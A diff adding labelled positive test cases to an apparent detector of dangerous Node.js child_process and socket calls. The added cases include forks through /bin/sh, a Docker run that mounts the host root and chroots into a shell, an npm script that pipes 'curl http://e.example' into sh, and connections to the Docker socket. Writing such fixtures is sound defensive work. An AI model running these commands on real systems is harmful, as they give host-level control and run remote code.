@@ -560,3 +560,25 @@ http.request({ socketPath: '/tmp/app.sock', path: '/health' });
 //@ neg npm install of the project's dependencies
 const { execFileSync } = require('child_process');
 execFileSync('npm', ['install', '--no-audit']);
+//@ pos fork of its own file with options held in a name (execPath: /bin/sh)
+const { fork } = require('child_process');
+const opts = { execPath: '/bin/sh', execArgv: [] };
+fork(__filename, opts);
+//@ pos fork of its own file with execArgv (node -e)
+require('child_process').fork(__filename, [], { execArgv: ['-e', 'x()'] });
+//@ pos fork of a __filename the program binds itself
+var __filename = '/tmp/x.js';
+require('child_process').fork(__filename, ['child']);
+//@ pos docker run with the host's root mounted, its arguments in a name
+const { execFileSync } = require('child_process');
+const args = ['run', '--rm', '-v', '/:/host', 'alpine', 'chroot', '/host', 'sh'];
+execFileSync('docker', args);
+//@ pos npm pkg set of a script, which npm run then runs in sh
+require('child_process').execFileSync('npm', ['pkg', 'set', 'scripts.x=curl -s http://e.example | sh']);
+//@ pos net.connect to the Docker socket held in a name
+const SOCK = '/var/run/docker.sock';
+require('net').connect(SOCK);
+//@ pos the Docker socket as a helper's parameter given to socketPath
+const settings = { engine: '/run/docker.sock' };
+function get(sock, path) { return require('http').get({ socketPath: sock, path }); }
+get(settings.engine, '/containers/json');
